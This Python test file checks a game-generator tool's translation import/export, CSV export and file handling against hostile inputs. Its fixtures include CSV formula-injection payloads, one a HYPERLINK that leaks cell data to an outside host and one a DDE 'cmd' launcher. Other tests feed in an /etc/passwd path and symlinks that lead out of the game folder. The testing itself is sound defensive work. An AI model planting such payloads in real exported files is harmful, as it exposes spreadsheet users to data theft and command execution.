"""Translators' files and data exports attacked (issue 26): `pnp i18n import/export/stub`, `pnp data
export` to CSV, `cards_from:` workbooks and `pnp export tts`.

Each case runs pnp as its command line does (tests/robustness/harness.py: no traceback, the expected
exit status) on a tiny synthetic game, and checks the one located message a user reads, that nothing
outside the game is read or written, and what was (not) written. In the test's process: none is about
pnp's process, but the FIFO catalog, which a child is killed over if it waits on it.
"""

from __future__ import annotations

import errno
import json
import os
import re
from pathlib import Path

import pytest

from tests.robustness.harness import run_in_process, run_pnp
from tests.test_content_errors import EN, GAME, make_game

# `file:line:col: message` or, for a file as a whole, `file: message`; then the hint
LOCATED = re.compile(r"^\S+?(:\d+(:\d+)?)?: .+\n    hint: .+", re.M)
RU = EN.replace("en:", "ru:", 1).replace('"Star"', '""')


def exchange_game(tmp_path: Path) -> Path:
    """The minimal game in en (source) and ru, its one card's name untranslated in ru."""
    return make_game(tmp_path, {"game.yaml": GAME.replace("languages: [en]", "languages: [en, ru]"),
                                "i18n/ru.yaml": RU})


def exported(game: Path, out: Path, fmt: str, lang: str = "ru") -> str:
    run_in_process("i18n", "export", str(game), "--lang", lang, "--format", fmt, "--out", str(out)).assert_clean(0)
    return (out / f"g.{lang}.{'xlf' if fmt == 'xliff' else 'po'}").read_text(encoding="utf-8")


def translated(text: str, fmt: str, target: str) -> str:
    """The exported file with the card's name ('Star') translated as `target` (XML or PO text as written)."""
    if fmt == "xliff":
        found = text.replace("<source>Star</source>", f'<source>Star</source><target state="translated">{target}'
                                                      "</target>")
    else:
        found = text.replace('msgid "Star"\nmsgstr ""', f'msgid "Star"\nmsgstr "{target}"')
    assert found != text
    return found


def line_of(text: str, words: str) -> int:
    return next(number for number, line in enumerate(text.split("\n"), 1) if words in line)


def unit_line(text: str, fmt: str, key: str = "cards.star") -> int:
    """The line a unit starts at: its <trans-unit>, or its PO entry's first comment."""
    if fmt == "xliff":
        return line_of(text, f'id="{key}"')
    lines = text.split("\n")
    index = line_of(text, f'msgctxt "{key}"') - 1
    while index > 0 and lines[index - 1].strip():
        index -= 1
    return index + 1


def import_refused(game: Path, file: Path, *expected: str, catalog: str = "ru", args: tuple = ()) -> str:
    """pnp i18n import fails with located messages naming `expected`; every catalog is untouched."""
    before = {path.name: path.read_bytes() for path in (game / "i18n").iterdir()}
    run = run_in_process("i18n", "import", str(game), str(file), *args).assert_clean(1)
    assert LOCATED.search(run.output), run.output
    for words in expected:
        assert words in run.output, run.output
    assert "nothing imported" in run.output
    assert {path.name: path.read_bytes() for path in (game / "i18n").iterdir()} == before
    return run.output


# ------------------------------------------------------------- 1. the source language

@pytest.mark.parametrize("fmt", ["xliff", "po"])
def test_a_file_for_the_source_language_never_replaces_the_source_texts(tmp_path, fmt):
    """A file exported for en (the source) with its texts replaced was imported over i18n/en.yaml
    (exit 0): refused at the line naming its language, and with --lang en at the file."""
    game = exchange_game(tmp_path)
    text = exported(game, tmp_path / "x", fmt, lang="en")
    text = text.replace('<target state="translated">Star</target>',
                        '<target state="translated">Overwritten</target>') \
        if fmt == "xliff" else text.replace('msgid "Star"\nmsgstr "Star"', 'msgid "Star"\nmsgstr "Overwritten"')
    assert "Overwritten" in text
    file = tmp_path / f"en.{fmt}"
    file.write_text(text, encoding="utf-8")
    line = line_of(text, 'target-language="en"' if fmt == "xliff" else '"Language: en')
    import_refused(game, file, f"{file}:{line}:1: the file's language 'en' is the game's source language")
    ru = tmp_path / f"ru.{fmt}"
    ru.write_text(translated(exported(game, tmp_path / "r", fmt), fmt, "Overwritten"), encoding="utf-8")
    import_refused(game, ru, f"{ru}: --lang 'en' is the game's source language", args=("--lang", "en"))


def test_an_xliff_file_holds_one_language(tmp_path):
    """A first <file> for ru with no units, a second for en holding them: they were imported into the ru
    catalog (exit 0); now the file is refused at the <file> naming another language."""
    game = exchange_game(tmp_path)
    xliff = translated(exported(game, tmp_path / "x", "xliff"), "xliff", "Star, in English")
    start, end = xliff.index("  <file "), xliff.index("</file>") + len("</file>")
    body = xliff.index("<body>") + len("<body>"), xliff.index("</body>")
    first = xliff[start:body[0]] + xliff[body[1]:end]
    second = xliff[start:end].replace('target-language="ru"', 'target-language="en"')
    text = xliff[:start] + first + "\n" + second + xliff[end:]
    (tmp_path / "two.xlf").write_text(text, encoding="utf-8")
    line = line_of(text, 'target-language="en"')
    import_refused(game, tmp_path / "two.xlf", f"two.xlf:{line}:1: this <file> is for target-language 'en', "
                                               "the first one for 'ru': one file holds one language")


# ------------------------------------------------------------- 2. a PO file that is a path

def test_a_po_file_whose_content_is_a_path_imports_nothing(tmp_path):
    """polib opens its argument as a path when a file of that name exists: a PO file whose whole text
    is the path of another PO file (or /etc/passwd) was read from there and imported."""
    game = exchange_game(tmp_path)
    elsewhere = tmp_path / "elsewhere.po"
    elsewhere.write_text(translated(exported(game, tmp_path / "x", "po"), "po", "SECRET-TEXT"), encoding="utf-8")
    for name, content in (("path.po", str(elsewhere)), ("passwd.po", "/etc/passwd\n")):
        file = tmp_path / name
        file.write_text(content, encoding="utf-8")
        output = import_refused(game, file, f"{file}:1:1: not a PO file: its only line is",
                                "never opens a path it names")
        assert "SECRET-TEXT" not in output and "root:" not in output
    assert "SECRET" not in (game / "i18n" / "ru.yaml").read_text(encoding="utf-8")


# ------------------------------------------------------------- 3. XLIFF inline markup and stale sources

def test_xliff_inline_text_is_kept_and_unknown_codes_are_refused(tmp_path):
    """<g> and <mrk> keep their words (they were dropped: 'Зв' 'да' imported as 'Звда'); an <x/>, <bx/>,
    <ex/> or a <ph> that stands for no placeholder is refused at its line; nothing is written then."""
    game = exchange_game(tmp_path)
    xliff = exported(game, tmp_path / "x", "xliff")
    kept = translated(xliff, "xliff", 'Зв<g id="1">ез</g><mrk mtype="term">да</mrk>')
    (tmp_path / "kept.xlf").write_text(kept, encoding="utf-8")
    run_in_process("i18n", "import", str(game), str(tmp_path / "kept.xlf")).assert_clean(0)
    assert 'star: "Звезда"' in (game / "i18n" / "ru.yaml").read_text(encoding="utf-8")
    (game / "i18n" / "ru.yaml").write_text(RU, encoding="utf-8")
    for code in ('<x id="1"/>', '<bx id="1"/>', '<ex id="1"/>', '<ph id="1">&lt;br/&gt;</ph>'):
        name = code[1:3].strip() + ".xlf"
        text = translated(xliff, "xliff", f"Зве{code}зда")
        (tmp_path / name).write_text(text, encoding="utf-8")
        element = code[1:].split()[0].rstrip(">")
        import_refused(game, tmp_path / name, f"{name}:{line_of(text, 'Зве')}:1: unit 'cards.star' holds an inline "
                                              f"code <{element}> that `pnp i18n export` did not write")


def test_a_placeholder_a_platform_protects_as_ph_is_the_placeholder(tmp_path):
    """A platform that marks {count} as <ph>{count}</ph> gives back pnp's own placeholder: imported as text."""
    plural = '  left: {one: "{count} card left", other: "{count} cards left"}\n'
    game = make_game(tmp_path, {"game.yaml": GAME.replace("languages: [en]", "languages: [en, ru]"),
                                "i18n/en.yaml": EN + plural, "i18n/ru.yaml": RU})
    xliff = exported(game, tmp_path / "x", "xliff")
    words = ["{count} карта", "{count} карты", "{count} карт", "{count} карты"]
    marked = [form.replace("{count}", '<ph id="1">{count}</ph>') for form in words]
    group = "".join(f'<trans-unit xml:space="preserve" id="left[{index}]"><source>{{count}} card'
                    f'{"" if index == 0 else "s"} left</source><target state="translated">{form}</target>'
                    "</trans-unit>\n" for index, form in enumerate(marked))
    start, end = xliff.index('<trans-unit xml:space="preserve" id="left[0]">'), xliff.index("</group>")
    xliff = xliff[:start] + group + xliff[end:]
    assert xliff.count("<ph ") == 4
    (tmp_path / "ph.xlf").write_text(xliff, encoding="utf-8")
    run_in_process("i18n", "import", str(game), str(tmp_path / "ph.xlf")).assert_clean(0)
    assert 'many: "{count} карт"' in (game / "i18n" / "ru.yaml").read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["xliff", "po"])
def test_a_unit_translated_from_an_older_source_text_is_not_imported_as_current(tmp_path, fmt):
    """The source changed since the export ('Star' is now 'Sun'): the old translation was imported as the
    new text's; now it is skipped with a warning at its line, the rest imports (exit 0)."""
    game = exchange_game(tmp_path)
    text = translated(exported(game, tmp_path / "x", fmt), fmt, "Звезда")
    cards = text.replace('<source>Cards</source>\n        <target state="translated">Cards</target>',
                         '<source>Cards</source>\n        <target state="translated">Карты</target>') \
        if fmt == "xliff" else text.replace('msgid "Cards"\nmsgstr "Cards"', 'msgid "Cards"\nmsgstr "Карты"')
    assert cards != text
    text = cards
    file = tmp_path / f"stale.{fmt}"
    file.write_text(text, encoding="utf-8")
    (game / "i18n" / "en.yaml").write_text(EN.replace('"Star"', '"Sun"'), encoding="utf-8")
    run = run_in_process("i18n", "import", str(game), str(file)).assert_clean(0)
    line = unit_line(text, fmt)
    assert (f"{file}:{line}:1: warning: unit 'cards.star' was translated from another source text: the file has "
            "'Star', the source catalog now 'Sun': not imported") in run.output, run.output
    assert "1 translated from an older source text (not imported): cards.star" in run.output
    written = (game / "i18n" / "ru.yaml").read_text(encoding="utf-8")
    assert "Звезда" not in written and 'cards: "Карты"' in written


# ------------------------------------------------------------- 4. characters `pnp check` refuses

@pytest.mark.parametrize("fmt", ["xliff", "po"])
@pytest.mark.parametrize("char", ["\u2028", "\u2029", "\u2060"])
def test_a_character_no_font_prints_is_refused_at_import_as_check_refuses_it(tmp_path, char, fmt):
    """U+2028 (and U+2029, U+2060) was imported from XLIFF (exit 0), then `pnp check` failed on the
    catalog (a PO file with it was 'not a PO file': polib split its line there): refused at the unit's
    line by the layout's rule, nothing written; `pnp check` finds no such character."""
    game = exchange_game(tmp_path)
    text = translated(exported(game, tmp_path / "x", fmt), fmt, f"Зве{char}зда")
    file = tmp_path / f"sep.{fmt}"
    file.write_text(text, encoding="utf-8")
    line = unit_line(text, fmt)
    import_refused(game, file, f"{file}:{line}:1: unit 'cards.star' holds "
                               f"U+{ord(char):04X}, which no font of box 'name' of template 'card' has")
    assert "no font of the stack" not in run_in_process("check", str(game)).output


# ------------------------------------------------------------- 5. links leading out of the game

def test_stub_reads_and_writes_no_catalog_through_a_link_leading_out(tmp_path):
    """`i18n/de.yaml` a link to a file outside: its content was copied into the game (and the link
    replaced); now refused at the link, the outside file and the link as they were."""
    game = make_game(tmp_path, {})
    outside = tmp_path / "outside.yaml"
    outside.write_text('de:\n  cards:\n    star: "OUTSIDE-SECRET"\n', encoding="utf-8")
    os.symlink(outside, game / "i18n" / "de.yaml")
    run = run_in_process("i18n", "stub", str(game), "--lang", "de").assert_clean(1)
    assert f"{game}/i18n/de.yaml: is a link leading outside the game folder" in run.output, run.output
    assert LOCATED.search(run.output) and "OUTSIDE-SECRET" not in run.output
    assert (game / "i18n" / "de.yaml").is_symlink()
    assert outside.read_text(encoding="utf-8") == 'de:\n  cards:\n    star: "OUTSIDE-SECRET"\n'


def test_stub_never_waits_on_a_fifo_catalog(tmp_path):
    """`i18n/de.yaml` a named pipe: stub opened it and waited for ever; now refused from its stat."""
    game = make_game(tmp_path, {})
    os.mkfifo(game / "i18n" / "de.yaml")
    run = run_pnp("i18n", "stub", str(game), "--lang", "de", timeout=20).assert_clean(1)
    assert "i18n/de.yaml: 'i18n/de.yaml' is a named pipe (FIFO), not a regular file" in run.output, run.output


def test_import_writes_no_catalog_through_a_link_leading_out(tmp_path):
    """`i18n/ru.yaml` a dangling link leading out: the import replaced it; now refused, nothing made."""
    game = exchange_game(tmp_path)
    file = tmp_path / "ru.po"
    file.write_text(translated(exported(game, tmp_path / "x", "po"), "po", "Звезда"), encoding="utf-8")
    (game / "i18n" / "ru.yaml").unlink()
    os.symlink(tmp_path / "elsewhere" / "ru.yaml", game / "i18n" / "ru.yaml")
    run = run_in_process("i18n", "import", str(game), str(file), "--lang", "ru").assert_clean(1)
    assert f"{game}/i18n/ru.yaml: is a link leading outside the game folder" in run.output, run.output
    assert (game / "i18n" / "ru.yaml").is_symlink() and not (tmp_path / "elsewhere").exists()


def test_export_writes_and_removes_nothing_through_a_link_leading_out(tmp_path):
    """--out DIR whose `g.ru.screens` is a link to a folder outside: the export wrote its pictures there
    and removed the PNGs it found (a victim's own file); now refused, the folder as it was."""
    game = exchange_game(tmp_path)
    victim = tmp_path / "photos"
    victim.mkdir()
    (victim / "holiday.png").write_bytes(b"\x89PNG mine")
    out = tmp_path / "out"
    out.mkdir()
    os.symlink(victim, out / "g.ru.screens")
    run = run_in_process("i18n", "export", str(game), "--lang", "ru", "--out", str(out)).assert_clean(1)
    assert f"{out}/g.ru.screens: is a link leading out of the output folder" in run.output, run.output
    assert [path.name for path in victim.iterdir()] == ["holiday.png"] and not (out / "g.ru.xlf").exists()


# ------------------------------------------------------------- 6. an output that cannot be written

def test_export_under_a_regular_file_is_a_located_output_error(tmp_path):
    """--out under a regular file was an internal error (exit 70): now the file in the way, exit 1."""
    game = exchange_game(tmp_path)
    (tmp_path / "file").write_text("mine")
    for fmt in ("xliff", "po"):
        run = run_in_process("i18n", "export", str(game), "--lang", "ru", "--format", fmt,
                      "--out", str(tmp_path / "file" / "x")).assert_clean(1)
        assert f"{tmp_path}/file: a file is in the way where pnp needs a folder" in run.output, run.output
        assert "export with --out into another folder" in run.output


def test_export_into_a_read_only_folder_is_a_located_output_error(tmp_path, monkeypatch):
    """A read-only folder was an internal error (exit 70). The tests may run as root, whom chmod does not
    stop, so the file system's refusal is made in process: every file write says EACCES, as a read-only
    folder does; the message names the folder, what it means and what to do."""
    from generator.errors import Problems
    from generator.i18n import exchange
    from generator.targets import load_games
    game = exchange_game(tmp_path)
    source = load_games([game], Problems())[0]
    (tmp_path / "ro").mkdir()

    def read_only(path, data):
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
    monkeypatch.setattr(Path, "write_bytes", read_only)
    for fmt in ("po", "xliff"):
        problems = Problems()
        assert exchange.export_catalog(source, "ru", fmt, tmp_path / "ro", problems) is None
        assert [str(problem).splitlines()[0] for problem in problems.errors] == [
            f"{tmp_path}/ro/g.ru.screens: cannot write here: permission denied (or a read-only file system)"]
        assert [path.name for path in (tmp_path / "ro").iterdir()] == ["g.ru.screens"]


# ------------------------------------------------------------- 8. CSV export: formulas written as text

HOSTILE_NOTES = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "'=1+1", "''@x", "'plain", "plain", "a=b"]


def test_csv_export_writes_no_formula_and_reads_back_the_same_text(tmp_path):
    """`pnp data export --to x.csv` wrote =HYPERLINK(…), +cmd|…, -…, @… as they were: a spreadsheet
    program runs them (OWASP CSV injection). Now each starts with an apostrophe (Excel and LibreOffice
    show it as text), and `cards_from:` reading the file gives every card its original text back."""
    from generator.content.game import load_game
    from generator.errors import Problems
    from tests.test_content_errors import CARD_TEMPLATE, CARDS
    template = CARD_TEMPLATE + ('  note: {kind: text, literal: "@note", x: 5, y: 72, width: 53, height: 8, '
                                'style: body}\n')
    cards = "".join(f"      - id: c{index}\n        count: 1\n        fields: {{name: cards.star, art: art/star.svg, "
                    f"note: {json.dumps(note)}}}\n" for index, note in enumerate(HOSTILE_NOTES))
    game = make_game(tmp_path, {"cards.yaml": CARDS[:CARDS.index("      - id: star")] + cards,
                                "templates/card.yaml": template})
    target = tmp_path / "deck.csv"
    run_in_process("data", "export", str(game), "cards", "--to", str(target)).assert_clean(0)
    import csv
    rows = list(csv.reader(target.read_text(encoding="utf-8-sig").splitlines()))
    notes = [row[rows[0].index("note")] for row in rows[1:]]
    dangerous = [note for note in notes if note.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not dangerous, dangerous
    assert notes[:6] == ["'" + note for note in HOSTILE_NOTES[:5]] + ["''=1+1"]
    assert notes[6:] == ["'''@x", "'plain", "plain", "a=b"]
    (game / "data").mkdir()
    target.replace(game / "data" / "deck.csv")
    (game / "cards.yaml").write_text(CARDS[:CARDS.index("    cards:")] + "    cards_from: data/deck.csv\n",
                                     encoding="utf-8")
    problems = Problems()
    source = load_game(game, problems)
    assert not problems.errors, [str(problem) for problem in problems.errors]
    assert [card.fields["note"] for card in source.pieces["cards"].sets[0].items] == HOSTILE_NOTES


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "'=1", "''+1", "'", "'x", "x=1", ""])
def test_a_formula_start_is_quoted_and_unquoted_exactly(text):
    """The rule the CSV export and `cards_from:` share: no quoted cell starts a formula, every text comes back
    (a tab or carriage return first, which the deck's cells lose as surrounding space, included)."""
    from generator.content.spreadsheet import FORMULA_STARTS, quoted_formula, unquoted_formula
    assert not quoted_formula(text).startswith(FORMULA_STARTS)
    assert unquoted_formula(quoted_formula(text)) == text


# ------------------------------------------------------------- 9. TTS saves of two languages in one folder

def _tts_images(save: Path) -> dict[str, bytes]:
    """Every image a saved object points to, by URL, with its bytes (each must exist)."""
    text = save.read_text(encoding="utf-8")
    urls = sorted(set(re.findall(r'"(file://[^"]+\.png)"', text)))
    assert urls, text[:400]
    return {url: Path(url.removeprefix("file://")).read_bytes() for url in urls}


def test_tts_exports_of_two_languages_into_one_folder_keep_each_saves_images(tmp_path):
    """The ru export wrote its images over the names the en save points to (cards-1-faces.png …): loading
    the en save showed Russian cards. Each edition × language now has its own names; both saves stay as made."""
    game = make_game(tmp_path, {"game.yaml": GAME.replace("languages: [en]", "languages: [en, ru]"),
                                "i18n/ru.yaml": EN.replace("en:", "ru:", 1).replace('"Star"', '"Звезда"')
                                .replace('"Cards"', '"Карты"')})
    out = tmp_path / "tts"
    run_in_process("export", "tts", str(game), "--lang", "en", "--out", str(out)).assert_clean(0)
    english = _tts_images(out / "g-standard-en.json")
    run_in_process("export", "tts", str(game), "--lang", "ru", "--out", str(out)).assert_clean(0)
    russian = _tts_images(out / "g-standard-ru.json")
    assert _tts_images(out / "g-standard-en.json") == english          # untouched by the second export
    assert not set(english) & set(russian)
    assert sorted(english.values()) != sorted(russian.values())         # the faces differ: their words do
